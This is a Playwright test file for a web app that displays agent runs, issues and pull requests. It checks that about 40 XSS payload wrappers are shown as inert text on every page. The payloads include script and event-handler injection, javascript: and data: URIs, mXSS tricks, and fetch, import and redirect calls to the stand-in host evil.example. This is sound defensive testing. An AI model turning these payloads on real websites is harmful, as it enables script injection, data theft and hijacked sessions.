import assert from 'node:assert/strict'
import { after, test } from 'node:test'
import { casesOfCommit } from '@runwright/server/test/cases-of-commit.ts'
import type { Page } from 'playwright-core'
import { openUi } from './open-ui.ts'

const { service, open, play, makeRepo, faults } = await openUi()
after(() => assert.deepEqual(faults, []))
const at = `/runs/${service.organizationId}`

const acts = [
  'ran=1',
  'fetch("//evil.example/a")',
  'location="//evil.example/b"',
  'alert(1)',
  'import("//evil.example/c")',
]
const wrappers = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror='${js}'>`,
  (js: string) => `<svg/onload='${js}'>`,
  (js: string) => `"><img src=x onerror='${js}'>`,
  (js: string) => `</pre></code></textarea></style><script>${js}</script>`,
  (js: string) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js: string) => `<iframe src='javascript:${js}'></iframe>`,
  (js: string) => `<a href='javascript:${js}'>press</a>`,
  (js: string) => `[press](javascript:${encodeURI(js)})`,
  (js: string) => `[press](JaVaScRiPt&colon;${encodeURI(js)})`,
  (js: string) => `<javascript:${encodeURI(js)}>`,
  (js: string) => `[press](data:text/html;base64,${btoa(`<script>${js}</script>`)})`,
  (js: string) => `[press](vbscript:${js})`,
  () => `![see](//evil.example/picture.png)`,
  () => `![see](https://evil.example/picture.png "<img src=//evil.example/x>")`,
  () => `<img src=//evil.example/d.png>`,
  () => `<link rel=stylesheet href=//evil.example/e.css>`,
  () => `<style>@import '//evil.example/f.css'; * { background: url(//evil.example/g) }</style>`,
  () => `<meta http-equiv=refresh content="0;url=//evil.example/h">`,
  () => `<base href=//evil.example/>`,
  (js: string) => `<form action=//evil.example/i><button formaction='javascript:${js}'>x</button></form>`,
  (js: string) => `<details open ontoggle='${js}'>x</details>`,
  (js: string) => `<input autofocus onfocus='${js}'>`,
  (js: string) => `<video><source onerror='${js}'></video>`,
  (js: string) =>
    `<math><mtext><table><mglyph><style><img src=x onerror='${js}'></style></mglyph></table></mtext></math>`,
  (js: string) => `<svg><animate onbegin='${js}' attributeName=x dur=1s></svg>`,
  (js: string) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${js}'/></svg>#x"></use></svg>`,
  (js: string) => `<object data='javascript:${js}'></object>`,
  (js: string) => `<embed src='javascript:${js}'>`,
  (js: string) => `\u001b]8;;javascript:${js}\u0007press\u001b]8;;\u0007`,
  (js: string) => '```html\n<script>' + js + '</script>\n```',
  (js: string) =>
    '```diff\n--- a/<img src=x onerror=' +
    js +
    '>\n+++ b/x\n@@ -1 +1 @@ <script>' +
    js +
    '</script>\n+<script>' +
    js +
    '</script>\n```',
  (js: string) => `| <script>${js}</script> |\n|---|\n| <img src=x onerror='${js}'> |`,
  (js: string) => `- [ ] <img src=x onerror='${js}'>`,
  (js: string) => `<x onclick='${js}'>[ref]\n\n[ref]: javascript:${js}`,
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => `\${${js}}`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror='${js}'>">`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `<!--><script>${js}</script>-->`,
]
const payloadsOf = (act: string) => wrappers.map((wrap) => wrap(act))

for (const act of casesOfCommit(acts, 4)) {
  test(`40 texts that mean to do ${act} are shown as they are, and do nothing`, async () => {
    const payloads = payloadsOf(act)
    assert.equal(payloads.length, 40)
    const all = payloads.join('\n\n')
    const repo_id = await makeRepo(`naughty-${acts.indexOf(act)}`, { 'a.txt': 'one\n' })
    const output = await play([...payloads.map((think) => ({ think })), { error: all }, { answer: all }], {
      prompt: all,
      title: payloads[1],
    })
    const done = await play(
      [
        { plan: payloads },
        { write: { path: 'a.html', content: `${all}\n` } },
        { shell: 'cat a.html; exit 1' },
        { ask: { question: payloads.slice(0, 8).join('\n\n'), options: payloads.slice(0, 6) } },
        { answer: '{reply}', title: payloads[0], body: payloads.slice(0, 20).join('\n\n') },
      ],
      { prompt: payloads[3], repo_id },
    )
    const page = await open(`${at}/${done.id}`)
    page.on('dialog', (dialog) => {
      faults.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.locator('.option').nth(2).click()
    await page.locator('.ask button[type=submit]').click()
    await page.locator('.run-title .pill.completed').waitFor()
    await service.untilEnded(output.id)
    for (const id of [output.id, done.id]) {
      for (const view of ['', '?view=reader', '?view=timeline', '?q=evil']) await readAll(page, `${at}/${id}${view}`)
      for (const tab of ['changes', 'artifacts', 'json']) {
        await page.goto(`${service.url}${at}/${id}?tab=${tab}`)
        await page.locator('.run-scroll > *').first().waitFor()
      }
    }
    await readHostPages(page, { repo_id, runId: done.id, payloads })
    await page.goto(service.url + at)
    await page.locator('.run-row').first().waitFor()
    await page.keyboard.press('Control+k')
    await page.locator('[role=option]').nth(4).waitFor()
    assert.equal(await page.locator(strangers).count(), 0)
    assert.equal(await page.evaluate(() => 'ran' in globalThis), false)
  })
}

/** What no page of ours holds. */
const strangers =
  'script:not([src^="/assets/"]), iframe, object, embed, main img, base, [href^="javascript" i], [onerror], [onload]'

type HostPages = { repo_id: number; runId: number; payloads: string[] }

/** What people, an outside CI and reviewers can write, on the pages of issues and pull requests. */
async function readHostPages(page: Page, { repo_id, runId, payloads }: HostPages): Promise<void> {
  const organization = `/organizations/${service.organizationId}`
  const api = `/v1${organization}`
  const all = payloads.join('\n\n')
  const { number } = await service.call<{ number: number }>('POST', `${api}/repos/${repo_id}/issues`, {
    title: payloads[4],
    body: all,
    labels: payloads.slice(0, 20).map((text) => text.slice(0, 100)),
  })
  await service.call('POST', `${api}/repos/${repo_id}/issues/${number}/comments`, { body: all })
  const { items } = await service.call<{ items: { id: number; number: number; head_commit: string }[] }>(
    'GET',
    `${api}/prs?run_id=${runId}`,
  )
  const pull = items[0]!
  // Nobody fixes these checks.
  await service.call('POST', `${api}/agent/run/ban`, { agent_run_id: runId })
  for (const text of payloads.slice(0, 10)) {
    await service.call('POST', `${api}/repos/${repo_id}/commits/${pull.head_commit}/checks`, {
      name: text.slice(0, 200),
      status: 'completed',
      conclusion: 'failure',
      summary: all,
      log: all,
    })
  }
  await service.call('POST', `${api}/prs/${pull.id}/comments`, { body: all })
  await service.call('POST', `${api}/prs/${pull.id}/comments`, { body: all, path: 'a.html', line: 1, side: 'head' })
  await service.call('POST', `${api}/prs/${pull.id}/reviews`, {
    verdict: 'request_changes',
    body: all,
    comments: [{ path: 'a.html', line: 1, body: all }],
  })
  await service.call('PATCH', `${api}/prs/${pull.id}`, { title: payloads[5], body: all })
  const repo = `${organization}/repos/${repo_id}`
  const visits = [
    [`${repo}/issues`, '.list'],
    [`${repo}/issues/${number}`, 'article:nth-of-type(1)'],
    [`${repo}/pulls/${pull.number}`, '.check-row button'],
    [`${repo}/pulls/${pull.number}?tab=files`, '.line-talk'],
    [`${organization}/repos`, '.list'],
  ] as const
  for (const [path, until] of visits) {
    await page.goto(service.url + path)
    await page.locator(until).first().waitFor()
    if (path.endsWith(`pulls/${pull.number}`)) await readCheckLogs(page)
    assert.equal(await page.locator(strangers).count(), 0)
  }
  // The code hosts of an organization are named by what people have typed, and by what hosts have said.
  await page.goto(
    `${service.url}${organization}/repos?${new URLSearchParams({ github: payloads[3]!, code: all, state: all })}`,
  )
  await page.getByRole('dialog').waitFor()
  assert.equal(await page.locator(strangers).count(), 0)
}

/** All of them, and whole. */
async function readCheckLogs(page: Page): Promise<void> {
  const logs = page.locator('.check-row button.btn')
  const rest = page.locator('.check-row .folded')
  for (const log of await logs.all()) await log.click()
  await rest.nth((await logs.count()) - 1).waitFor()
  while (await rest.count()) await rest.first().click()
}

/** Brings every entry on the screen once. */
async function readAll(page: Page, path: string): Promise<void> {
  await page.goto(service.url + path)
  await page.locator('.entry, .empty').first().waitFor()
  const box = page.locator('.run-scroll')
  for (;;) {
    const isAtEnd = await box.evaluate((node) => {
      node.scrollTop += node.clientHeight * 0.8
      return node.scrollTop + node.clientHeight >= node.scrollHeight - 4
    })
    assert.equal(await page.locator(strangers).count(), 0)
    if (isAtEnd) return
  }
}
